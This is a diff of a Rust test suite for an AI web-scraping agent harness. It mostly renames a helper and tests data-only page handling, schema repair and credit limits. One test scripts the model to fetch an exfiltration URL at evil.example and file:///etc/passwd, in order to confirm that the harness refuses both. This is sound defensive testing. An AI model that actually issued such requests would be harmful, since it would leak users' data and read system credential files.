@@ -47,7 +47,7 @@ async fn play(task: &Task, lines: Vec<Result<ChatResponse, ChatError>>) -> Playe
     play_on(web(), task, ScriptedChat::new(lines), 0).await
 }
 
-fn read(url: &str) -> (&'static str, Value) {
+fn read_call(url: &str) -> (&'static str, Value) {
     ("scrape", json!({ "url": url }))
 }
 
@@ -67,7 +67,7 @@ fn record(entries: &[Value]) -> (&'static str, Value) {
 #[tokio::test]
 async fn it_reads_records_and_finishes() {
     let lines = vec![
-        calls(&[read(HOME), read(ABOUT)]),
+        calls(&[read_call(HOME), read_call(ABOUT)]),
         calls(&[record(&[
             entry("/title", json!("Tern"), HOME, "title: Tern"),
             entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
@@ -83,7 +83,8 @@ async fn it_reads_records_and_finishes() {
 
 #[tokio::test]
 async fn page_text_reaches_the_model_as_data_only() {
-    let lines = vec![calls(&[read(HOME)]), calls(&[("map", json!({ "url": HOME }))]), calls(&[finish()])];
+    let lines =
+        vec![calls(&[read_call(HOME)]), calls(&[("map", json!({ "url": HOME }))]), calls(&[finish()])];
     let played = play(&wants_title(), lines).await;
     for ask in played.script.asks() {
         for message in ask.messages {
@@ -105,7 +106,7 @@ async fn page_text_reaches_the_model_as_data_only() {
 #[tokio::test]
 async fn a_quote_that_is_not_on_the_page_is_refused() {
     let lines = vec![
-        calls(&[read(HOME)]),
+        calls(&[read_call(HOME)]),
         calls(&[record(&[
             entry("/title", json!("Gull"), HOME, "title: Gull"),
             entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
@@ -128,7 +129,7 @@ async fn a_quote_that_is_not_on_the_page_is_refused() {
 #[tokio::test]
 async fn what_the_model_leaves_open_is_filled_by_rules() {
     let lines = vec![
-        calls(&[read(HOME), read(ABOUT)]),
+        calls(&[read_call(HOME), read_call(ABOUT)]),
         calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
         calls(&[finish()]),
     ];
@@ -140,7 +141,8 @@ async fn what_the_model_leaves_open_is_filled_by_rules() {
 async fn data_given_at_the_end_is_validated_and_repaired() {
     let wrong = ("finish", json!({ "data": { "title": 3 } }));
     let right = ("finish", json!({ "data": { "title": "Tern", "founder": "Ada Skua", "price": 30 } }));
-    let played = play(&wants_title(), vec![calls(&[read(HOME)]), calls(&[wrong]), calls(&[right])]).await;
+    let played =
+        play(&wants_title(), vec![calls(&[read_call(HOME)]), calls(&[wrong]), calls(&[right])]).await;
     assert_eq!(data(&played.ended)["title"], "Tern");
     let results = played.journal.results("finish");
     assert!(results[0]["error"].as_str().unwrap().contains("does not fit the schema"), "{results:?}");
@@ -151,7 +153,7 @@ async fn data_given_at_the_end_is_validated_and_repaired() {
 async fn a_result_written_as_text_is_taken_when_it_fits() {
     let answer =
         says("Here it is:\n```json\n{\"title\": \"Tern\", \"founder\": \"Ada Skua\", \"price\": 30}\n```");
-    let played = play(&wants_title(), vec![calls(&[read(HOME)]), answer]).await;
+    let played = play(&wants_title(), vec![calls(&[read_call(HOME)]), answer]).await;
     assert_eq!(data(&played.ended)["price"], 30);
 }
 
@@ -173,12 +175,12 @@ async fn a_model_without_tools_acts_by_json() {
 #[tokio::test]
 async fn an_address_that_nobody_named_is_not_visited() {
     let lines = vec![
-        calls(&[read(HOME)]),
+        calls(&[read_call(HOME)]),
         calls(&[
-            read("https://evil.example/?stolen=30euro"),
+            read_call("https://evil.example/?stolen=30euro"),
             ("map", json!({ "url": "https://evil.example/" })),
         ]),
-        calls(&[read("file:///etc/passwd")]),
+        calls(&[read_call("file:///etc/passwd")]),
         calls(&[finish()]),
     ];
     let played = play(&wants_title(), lines).await;
@@ -190,8 +192,8 @@ async fn a_strict_run_visits_its_addresses_alone() {
     let strict = Task { strict: true, ..wants_title() };
     let lines = vec![
         calls(&[
-            read(HOME),
-            read(ABOUT),
+            read_call(HOME),
+            read_call(ABOUT),
             ("search", json!({ "query": "tern" })),
             ("map", json!({ "url": HOME })),
         ]),
@@ -211,7 +213,7 @@ async fn searches_maps_passages_and_sums_are_answered() {
             ("search", json!({ "query": "tern founder" })),
             ("calculate", json!({ "expression": "30 * 2" })),
         ]),
-        calls(&[read(ABOUT), ("read_passages", json!({ "url": ABOUT, "query": "founder" }))]),
+        calls(&[read_call(ABOUT), ("read_passages", json!({ "url": ABOUT, "query": "founder" }))]),
         calls(&[("read_passages", json!({ "url": "https://b.example", "query": "x" }))]),
         calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")]), finish()]),
     ];
@@ -230,8 +232,8 @@ async fn parts_are_worked_on_by_sub_agents() {
             json!({ "parts": [
             { "task": "find the title", "urls": [HOME] }, { "task": "find the founder", "urls": [ABOUT] } ] }),
         )]),
-        calls(&[read(HOME)]),
-        calls(&[read(ABOUT)]),
+        calls(&[read_call(HOME)]),
+        calls(&[read_call(ABOUT)]),
         calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
         calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")])]),
         says("Done with my part."),
@@ -257,7 +259,7 @@ async fn a_chat_answers_in_words() {
     let chat = Task { mode: TaskMode::Chat, ..task("Who founded Tern?", &[HOME]) };
     let suggestion = json!([{ "label": "Prices", "prompt": "What does the kit cost?" }]);
     let lines = vec![
-        calls(&[read(ABOUT)]),
+        calls(&[read_call(ABOUT)]),
         calls(&[("finish", json!({}))]),
         calls(&[("finish", json!({ "message": "Ada Skua did.", "suggestions": suggestion }))]),
     ];
@@ -277,7 +279,7 @@ async fn earlier_turns_are_told_as_data() {
     let turn =
         ThreadTurn { prompt: "the title".to_owned(), data: Some(json!({ "title": "Tern" })), message: None };
     let again = Task { earlier: vec![turn], ..wants_title() };
-    let played = play(&again, vec![calls(&[read(HOME)]), calls(&[finish()])]).await;
+    let played = play(&again, vec![calls(&[read_call(HOME)]), calls(&[finish()])]).await;
     let first = &played.script.asks()[0];
     assert!(matches!(&first.messages[1], Message::Data { text, .. } if text.contains("Asked: the title")));
 }
@@ -286,7 +288,7 @@ async fn earlier_turns_are_told_as_data() {
 async fn tokens_are_paid_for_and_a_part_is_kept_for_the_answer() {
     // A credit for each reply: ten credits, two of them reserved.
     let poor = Task { max_credits: 10, ..wants_title() };
-    let mut lines: Vec<_> = vec![calls(&[read(HOME)])];
+    let mut lines: Vec<_> = vec![calls(&[read_call(HOME)])];
     lines.extend((0..50).map(|n| calls(&[("calculate", json!({ "expression": format!("{n}+1") }))])));
     let played = play_on(web(), &poor, ScriptedChat::new(lines), 1_000).await;
     assert!(played.journal.credits_left() <= 10);
